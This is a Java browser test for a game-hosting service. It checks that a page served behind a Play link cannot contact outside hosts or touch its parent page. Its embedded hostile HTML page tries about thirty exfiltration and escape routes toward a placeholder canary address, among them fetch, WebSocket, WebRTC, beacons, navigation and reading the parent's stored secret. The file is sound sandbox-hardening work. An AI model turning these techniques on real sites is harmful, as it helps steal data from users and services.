package atelier.adapter.web;

import static org.assertj.core.api.Assertions.assertThat;

import atelier.SettableClock;
import atelier.browser.Chromium;
import atelier.browser.ChromiumExtension;
import atelier.browser.SandboxServer;
import atelier.browser.Tab;
import atelier.create.Artifact;
import atelier.create.game.Archetype;
import atelier.create.game.Designs;
import atelier.create.game.WebGame;
import atelier.engine.play.PlayLinks;
import atelier.engine.play.PlayablePage;
import atelier.intent.Complexity;
import atelier.store.DiskArtifacts;
import io.micrometer.prometheusmetrics.PrometheusConfig;
import io.micrometer.prometheusmetrics.PrometheusMeterRegistry;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.SocketException;
import java.net.SocketTimeoutException;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import org.awaitility.Awaitility;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;

/// The page behind a Play link in a real browser: a stranger's code that wants out finds no way, and a game finds all it needs.
@ExtendWith(ChromiumExtension.class)
final class HostilePageTest {
    /// Each way out, tried in turn; `CANARY` is the address of whoever listens. What is thrown counts as held back.
    private static final String WAYS = """
            <!DOCTYPE html><html><head><title>hostile</title>
            <link rel="stylesheet" href="http://CANARY/link"><link rel="preload" as="fetch" href="http://CANARY/preload">
            <link rel="prefetch" href="http://CANARY/prefetch"><link rel="preconnect" href="http://CANARY">
            <link rel="dns-prefetch" href="//CANARY">
            <base href="http://CANARY/base/">
            <style>@import "http://CANARY/import"; @font-face{font-family:x;src:url(http://CANARY/font)}
            body{font-family:x;background:url(http://CANARY/background)}</style>
            <script src="http://CANARY/script"></script></head>
            <body>text<img src="http://CANARY/img"><iframe src="http://CANARY/iframe"></iframe><object data="http://CANARY/object">
            </object><embed src="http://CANARY/embed"><video src="http://CANARY/video" autoplay></video>
            <audio src="http://CANARY/audio" autoplay></audio><svg><image href="http://CANARY/svg"/></svg>
            <form id="f" action="http://CANARY/form" method="post"><input name="a" value="b"></form>
            <a id="a" href="http://CANARY/ping" ping="http://CANARY/ping2" target="_blank">a</a>
            <a id="t" href="http://CANARY/top" target="_top">t</a>
            <script>
            const at = "CANARY", tried = window.tried = [], held = window.held = [];
            const way = async (name, what) => { tried.push(name); try { await what(); } catch (e) { held.push(name); } };
            const load = (tag, key) => () => { const it = document.createElement(tag); it[key] = "http://" + at + "/" + tag;
              document.body.append(it); };
            const inside = code => URL.createObjectURL(new Blob([code], { type: "text/javascript" }));
            addEventListener("load", async () => {
              await way("fetch", () => fetch("http://" + at + "/fetch", { mode: "no-cors" }));
              await way("fetch keepalive", () => fetch("http://" + at + "/k", { mode: "no-cors", keepalive: true, method: "POST" }));
              await way("xhr", () => { const x = new XMLHttpRequest(); x.open("GET", "http://" + at + "/xhr", false); x.send(); });
              await way("websocket", () => new Promise((yes, no) => { const w = new WebSocket("ws://" + at + "/ws");
                w.onopen = yes; w.onerror = no; }));
              await way("event source", () => new Promise((yes, no) => { const s = new EventSource("http://" + at + "/es");
                s.onopen = yes; s.onerror = () => { s.close(); no(); }; }));
              await way("beacon", () => { if (!navigator.sendBeacon("http://" + at + "/beacon", "x")) throw 0; });
              await way("image", load("img", "src"));
              await way("script", load("script", "src"));
              await way("frame", load("iframe", "src"));
              await way("link", () => { const l = document.createElement("link"); l.rel = "stylesheet";
                l.href = "http://" + at + "/link2"; document.head.append(l); });
              await way("worker", () => new Promise((yes, no) => { const w = new Worker(inside("fetch('http://" + at
                + "/worker',{mode:'no-cors'}).then(()=>postMessage(1),()=>postMessage(0))")); w.onmessage = yes; w.onerror = no; }));
              await way("service worker", () => navigator.serviceWorker.register("/sw.js"));
              await way("form", () => document.getElementById("f").submit());
              await way("window", () => { if (!window.open("http://" + at + "/open")) throw 0; });
              await way("anchor", () => document.getElementById("a").click());
              await way("top anchor", () => document.getElementById("t").click());
              await way("top", () => { top.location = "http://" + at + "/top"; });
              await way("parent", () => { parent.location.href = "http://" + at + "/parent"; });
              await way("parent's page", () => parent.document.body.append("x"));
              await way("opener", () => opener.location = "http://" + at + "/opener");
              await way("storage of the service", () => parent.localStorage.getItem("secret"));
              await way("cookies", () => { if (!document.cookie) throw 0; });
              await way("rtc", async () => { const p = new RTCPeerConnection({ iceServers: [
                { urls: "stun:" + at }, { urls: "turn:" + at + "?transport=tcp", username: "u", credential: "c" }] });
                p.createDataChannel("x"); await p.setLocalDescription(await p.createOffer());
                await new Promise(done => setTimeout(done, 1500)); });
              await way("css", () => { const s = document.createElement("style");
                s.textContent = "@import 'http://" + at + "/css'; body{cursor:url(http://" + at + "/cursor),auto}"; document.head.append(s); });
              await way("camera", () => navigator.mediaDevices.getUserMedia({ audio: true }));
              await way("dialog", () => alert("hello"));
              await way("srcdoc", () => new Promise((yes, no) => { addEventListener("message", e => { window.inner = e.data; yes(); });
                const f = document.createElement("iframe"); f.srcdoc = "<script>parent.postMessage(typeof RTCPeerConnection,'*')<\\/script>";
                document.body.append(f); setTimeout(no, 1000); }));
              await way("preconnect", () => { const l = document.createElement("link"); l.rel = "preconnect";
                l.href = "http://" + at; document.head.append(l); });
              await way("markup", () => { const d = document.createElement("div");
                d.innerHTML = "<li" + "nk rel=preconnect href=http://" + at + "><ifr" + "ame srcdoc=x></ifr" + "ame>";
                document.body.append(d); });
              await way("a new frame's call", () => { const f = document.createElement("iframe"); document.body.append(f);
                const p = new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: "stun:" + at }] });
                p.createDataChannel("x"); return p.createOffer().then(o => p.setLocalDescription(o)); });
              window.done = true;
            });
            </script></body></html>
            """;

    @TempDir
    Path folder;

    private final PlayLinks links = new PlayLinks(new byte[32], URI.create("http://localhost"),
            SettableClock.at("2026-05-01T12:00:00Z"));
    private DiskArtifacts artifacts;
    private HttpServer server;
    private Canary canary;

    @BeforeEach
    void open() {
        artifacts = new DiskArtifacts(folder);
        server = HttpServer.start("127.0.0.1", 0, Map::of, new PrometheusMeterRegistry(PrometheusConfig.DEFAULT),
                List.of(), new PlayPages(links, artifacts::path));
        canary = new Canary();
    }

    @AfterEach
    void close() {
        canary.close();
        server.close();
    }

    @Test
    void aHostilePageReachesNobodyAndMovesNothing(Chromium browser) {
        var address = address(page(WAYS.replace("CANARY", canary.address())));
        try (var tab = browser.tab(800, 600, false)) {
            tab.open(address);
            tab.evaluate("localStorage.setItem('secret','of the service')");
            Awaitility.await("all ways tried").atMost(Duration.ofSeconds(60))
                    .until(() -> tab.evaluateInFrame("window.done===true").asBoolean());
            var tried = tab.evaluateInFrame("tried.length").asInt();
            var held = tab.evaluateInFrame("held");

            assertThat(tried).isGreaterThanOrEqualTo(25);
            assertThat(held.toString()).contains("\"fetch\"", "\"xhr\"", "\"websocket\"", "\"parent's page\"",
                    "\"storage of the service\"", "\"top\"", "\"window\"", "\"worker\"", "\"rtc\"",
                    "\"a new frame's call\"", "\"srcdoc\"");
            assertThat(tab.evaluate("location.href").asText()).isEqualTo(address);
            assertThat(tab.evaluate("document.title").asText()).isEqualTo("Play");
            assertThat(canary.heard()).isEmpty();
            leaves(tab, address);
            System.out.printf("hostile page: %d ways tried, %d threw, %d connections outside, outer page stays%n",
                    tried + 1, held.size(), canary.heard().size());
        }
    }

    /// Last, since it ends the page: going away itself. The frame may show an error, but only its own.
    private void leaves(Tab tab, String address) {
        tab.evaluateInFrame("setTimeout(()=>{location='http://" + canary.address() + "/leave'},0)");
        Awaitility.await("the frame shows an error").ignoreExceptions()
                .until(() -> !tab.evaluateInFrame("window.done===true").asBoolean());
        assertThat(tab.evaluate("location.href").asText()).isEqualTo(address);
        assertThat(canary.heard()).isEmpty();
    }

    @Test
    void theCanaryHearsAPageThatIsNotHeldBack(Chromium browser) {
        try (var open = new SandboxServer(new byte[0]); var tab = browser.tab(800, 600, false)) {
            tab.open(open.address());
            tab.evaluate("fetch('http://" + canary.address() + "/heard',{mode:'no-cors'}).catch(()=>0)");
            Awaitility.await().until(() -> !canary.heard().isEmpty());
        }
    }

    @Test
    void aGameBootsDrawsAndHearsKeysBehindItsLink(Chromium browser) {
        try (var tab = browser.tab(1280, 720, false)) {
            tab.open(address(game()));
            drawsAnew(tab);
            assertThat(tab.evaluate("document.activeElement.tagName").asText()).isEqualTo("IFRAME");
            tab.press("Enter");
            Awaitility.await("keys arrive")
                    .until(() -> tab.evaluateInFrame("atelier.scene").asText().equals("act"));
            assertThat(tab.problems()).allMatch(HostilePageTest::isAboutANewRule);
            System.out.println("game behind its link: boots, draws, hears keys, no error on a desktop");
        }
    }

    @Test
    void aGameHearsAFingerBehindItsLink(Chromium browser) {
        try (var tab = browser.tab(390, 844, true)) {
            tab.open(address(game()));
            drawsAnew(tab);
            var at = tab.evaluateInFrame("(r=>[r.x+r.width/2,r.y+r.height/2])"
                    + "(document.querySelector('.card button.main').getBoundingClientRect())");
            tab.tap(at.get(0).asDouble(), at.get(1).asDouble());
            Awaitility.await("the finger is felt")
                    .until(() -> tab.evaluateInFrame("atelier.scene").asText().equals("act"));
            assertThat(tab.problems()).allMatch(HostilePageTest::isAboutANewRule);
            System.out.println("game behind its link: boots, draws, feels a finger, no error on a phone");
        }
    }

    /// Browsers that do not know a rule yet say so.
    private static boolean isAboutANewRule(String problem) {
        return problem.equals("Unrecognized Content-Security-Policy directive 'webrtc'.");
    }

    private static void drawsAnew(Tab tab) {
        Awaitility.await("it draws").until(() -> tab.evaluateInFrame(
                "(c=>!!c&&c.width>0&&c.getContext('2d').getImageData(c.width/2,c.height/2,1,1).data[3]>0)(document.querySelector('canvas'))")
                .asBoolean());
    }

    private static byte[] game() {
        return page(new String(WebGame.page(Designs.sample(Archetype.SNAKE, Complexity.BASIC, 5)),
                StandardCharsets.UTF_8));
    }

    private static byte[] page(String html) {
        return PlayablePage.of(List.of(new Artifact("index.html", "text/html", html.getBytes(StandardCharsets.UTF_8))))
                .orElseThrow();
    }

    private String address(byte[] page) {
        var path = URI.create(links.to(artifacts.put(page)).orElseThrow()).getPath();
        return "http://127.0.0.1:" + server.port() + path;
    }

    /// Counts whoever comes, by TCP or UDP, and says nothing.
    private static final class Canary implements AutoCloseable {
        private final List<String> heard = new CopyOnWriteArrayList<>();
        private final ServerSocket tcp;
        private final DatagramSocket udp;

        Canary() {
            try {
                tcp = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
                udp = new DatagramSocket(tcp.getLocalPort(), InetAddress.getLoopbackAddress());
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
            Thread.ofVirtual().start(this::accept);
            Thread.ofVirtual().start(this::hear);
        }

        private void accept() {
            try {
                while (!tcp.isClosed()) {
                    try (var visitor = tcp.accept()) {
                        visitor.setSoTimeout(300);
                        heard.add("tcp " + first(visitor));
                    }
                }
            } catch (SocketException _) {
                // Closed.
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        }

        private static String first(Socket visitor) throws IOException {
            try {
                return new String(visitor.getInputStream().readNBytes(30), StandardCharsets.ISO_8859_1);
            } catch (SocketTimeoutException _) {
                return "silent";
            }
        }

        private void hear() {
            try {
                while (!udp.isClosed()) {
                    udp.receive(new DatagramPacket(new byte[64], 64));
                    heard.add("udp");
                }
            } catch (SocketException _) {
                // Closed.
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        }

        String address() {
            return "127.0.0.1:" + tcp.getLocalPort();
        }

        /// How each visit began.
        List<String> heard() {
            return heard;
        }

        @Override
        public void close() {
            try {
                tcp.close();
                udp.close();
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        }
    }
}
